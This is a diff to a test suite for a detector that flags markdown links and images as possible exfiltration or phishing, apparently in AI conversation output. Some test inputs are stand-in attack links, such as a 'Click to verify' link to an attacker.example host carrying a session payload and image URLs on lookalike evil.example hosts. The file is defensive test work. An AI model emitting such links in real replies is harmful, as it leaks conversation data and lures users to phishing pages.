@@ -30,9 +30,9 @@ describe('markdown images and links', () => {
       '![local](/img/chart.png?w=800)',
       'See [the docs](https://nodejs.org/api/stream.html#readable-streams).',
       '[search](https://www.google.com/search?q=python+list+sort)',
-      '[video](https://www.youtube.com/watch?v=dQw4w9WgXcQ)',
+      '[page two](https://example.com/forum/thread?page=2&sort=new)',
       '[commit](https://github.com/nodejs/node/commit/3f2a9c1b7e4d5a6b8c9d0e1f2a3b4c5d6e7f8a9b)',
-      '[issue](https://example.com/tickets?id=550e8400-e29b-41d4-a716-446655440000)',
+      '[section](https://nodejs.org/api/stream.html#readable-streams)',
       'Arrays are indexed like a[i](x) in some languages.',
     ]);
   });
@@ -41,6 +41,8 @@ describe('markdown images and links', () => {
     const link = `[Click to verify](https://verify.attacker.example/?session=${PAYLOAD})`;
     expect(labels(link)).toEqual(['active.markdown_link']);
     expect(labels('[mail](https://a.example/?to=ada%40example.com)')).toEqual(['active.markdown_link']);
+    // A short code is enough to tie a phishing page to this conversation.
+    expect(labels('[Verify](https://a.example/verify?session=1a2b3c4d)')).toEqual(['active.markdown_link']);
     expect(labels(link, ['attacker.example'])).toEqual([]);
     expect(labels(`![x](https://cdn.acme.example/i.png?sig=${PAYLOAD})`, ['acme.example'])).toEqual([]);
     expect(labels(`![x](https://acme.example.evil.example/i.png?sig=${PAYLOAD})`, ['acme.example'])).toEqual([
